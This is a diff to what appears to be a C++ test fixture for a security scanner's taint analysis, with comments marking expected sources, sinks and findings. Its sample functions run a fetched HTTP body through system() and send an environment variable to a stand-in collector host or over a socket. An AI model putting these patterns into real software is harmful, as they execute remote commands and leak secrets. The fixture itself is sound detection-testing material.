@@ -240,7 +240,7 @@ void rest_client(Pistache::Http::Client &c) {
 
 void rest_client_read(Pistache::Http::Client &c) {
     auto r = c.get("https://pi.collector.example").send(); //~ source(NETWORK) f43
-    system(r.body().c_str()); //~ sink(exec.command) f43, finding(assumed) f43
+    system(r.body().c_str()); //~ sink(exec.command) f43, finding(traced) f43
 }
 
 void rest_client_constants(const Pistache::Rest::Request &q, Pistache::Http::ResponseWriter a, Pistache::Http::Client &c) {
@@ -273,4 +273,14 @@ void engine_constant(TSharedRef<IHttpRequest> r) {
 void ix_client(ix::HttpClient &c, ix::HttpRequestArgsPtr args) {
     c.post("https://ix.collector.example/u", getenv("T"), args); //~ source(ENVIRONMENT) f49, sink(egress.http) f49, finding(traced) f49, capability(NETWORK), endpoint("https://ix.collector.example/u")
     c.post("https://ix.collector.example/u", "x", args); //~ ok
+}
+
+void own_message(Message &m, std::string &out, int s) {
+    m.body() = getenv("T"); //~ source(ENVIRONMENT) f50
+    send(s, &m, 9, 0); //~ sink(egress.socket) f50, finding(traced) f50
+}
+
+void own_message_constant(Message &m, int s) {
+    m.body() = "x"; //~ ok
+    send(s, &m, 9, 0); //~ ok
 }
